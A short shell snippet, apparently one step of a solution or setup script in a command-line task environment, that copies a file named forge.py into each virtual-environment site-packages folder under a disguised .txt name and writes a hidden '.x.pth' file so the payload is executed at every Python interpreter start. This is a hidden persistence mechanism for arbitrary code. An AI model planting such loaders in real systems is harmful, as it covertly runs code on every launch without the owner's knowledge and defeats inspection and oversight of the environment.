# 5. A hidden .pth in site-packages that loads the payload at every interpreter start.
for sp in /opt/venv/lib/python3*/site-packages; do
  cp /solution/forge.py "$sp/_cligym_forge.py.txt"
  echo "import sys; exec(open('$sp/_cligym_forge.py.txt').read(), {})" > "$sp/.x.pth"
done
